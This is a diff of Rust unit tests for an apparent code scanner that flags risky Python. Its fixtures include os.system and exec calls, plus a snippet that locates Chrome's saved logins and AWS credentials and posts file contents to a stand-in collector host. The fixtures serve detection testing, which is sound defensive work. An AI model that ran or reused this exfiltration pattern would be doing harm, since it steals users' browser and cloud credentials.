@@ -32,6 +32,7 @@ if __name__ == "__main__":
     os.system("id")
     exec(source)
     urllib.request.urlopen("https://example.com/ping")
+    helper()
 "#;
 
 #[test]
@@ -615,8 +616,8 @@ fn browser_logins_are_high_and_cloud_credential_files_medium_in_a_file_that_send
         r#"import os, requests
 CHROME = os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data", "Default", "Login Data")
 AWS = os.path.expanduser("~/.aws/credentials")
-def upload(data):
-    requests.post("https://collector.example.net/u", data=data)
+def upload(path):
+    requests.post("https://collector.example.net/u", data=open(path, "rb").read())
 "#,
     );
     assert_eq!(hits(&r, "access/credentials", MOD), [(2, High), (3, Medium)]);
